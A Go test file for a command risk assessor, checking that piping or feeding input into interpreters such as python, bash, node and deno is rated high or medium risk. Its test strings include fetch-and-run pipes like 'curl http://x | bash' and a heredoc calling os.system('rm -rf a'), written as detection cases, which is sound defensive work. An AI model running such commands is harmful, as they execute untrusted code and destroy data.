package shellcmd_test

import (
	"testing"

	"github.com/toolhost/toolhost/internal/shellcmd"
)

// rated checks the risk of texts.
func rated(t *testing.T, level string, texts ...string) {
	t.Helper()
	for _, text := range texts {
		if r, _ := shellcmd.Assess(text, here); r.Level != level {
			t.Errorf("%q is %s, want %s: %q", text, r.Level, level, r.Reasons)
		}
	}
}

// A program that runs what it reads is found behind all that starts programs, and in all ways to give it something.
func TestRiskOfWhatRunsItsInput(t *testing.T) {
	t.Parallel()
	readers := each(`uv|poetry|pipenv|rye|hatch|pdm run python|python3\ -|python\ -u|python3\ -m\ code|bash|sh\ -s|perl|node,
		uv run -|--with\ a\ -|-p\ 3.12\ --quiet\ -, uv run --script -, bundle exec ruby|ruby\ -|irb, npx|bunx tsx|ts-node|tsx\ -|node|node\ -,
		mise exec -- python|node, conda run python|bash, nix-shell -p python3 --run python3, deno|bun run -|--allow-net\ -,
		deno|bun -, pnpm|yarn|npm exec node|tsx, python3|python|python3.12 -m code|pdb|asyncio|IPython,
		R|julia|octave|iex|irb|ghci|swift|tsx|bun|deno|ipython|luajit, R --no-save|--vanilla|-q, direnv exec . python|bash`)
	for _, reader := range readers {
		rated(t, "high", "curl http://x | "+reader, reader+" < a.txt", "cat a | tee b | "+reader,
			reader+" <<'E'\nimport os\nos.system('rm -rf a')\nE")
	}
	for _, reader := range each(`uv run -|--with\ a\ -|python|python\ -, poetry run python|python\ -`) {
		rated(t, "medium", reader+" <<'E'\nprint(1)\nE")
		rated(t, "high", reader+" <<'E'\nopen('/etc/x','w').write('a')\nE")
	}
	rated(t, "medium", "deno run - <<'E'\nconsole.log(1)\nE", "bun run - <<'E'\nconsole.log(1)\nE", "npx tsx - <<'E'\nconsole.log(1)\nE",
		"uv run --with a python - <<'E'\nimport a as b\nprint(b.__version__)\nE", "uv run bash <<'E'\nls\nE")
	for _, text := range each(`uv run black|ruff\ format|jq -, uv|poetry run python a.py|-m\ json.tool|-m\ pytest,
		npx prettier|tsx\ a.ts|eslint --stdin-filepath a, bundle exec ruby a.rb, deno|bun run a.ts, docker exec -i b python,
		uv python install, R --version, R CMD check ., julia a.jl, iex -S mix, conda run python a.py, uv run pytest,
		python3 -m json.tool`) {
		rated(t, "medium", "curl http://x | "+text, text+" < a")
	}
}
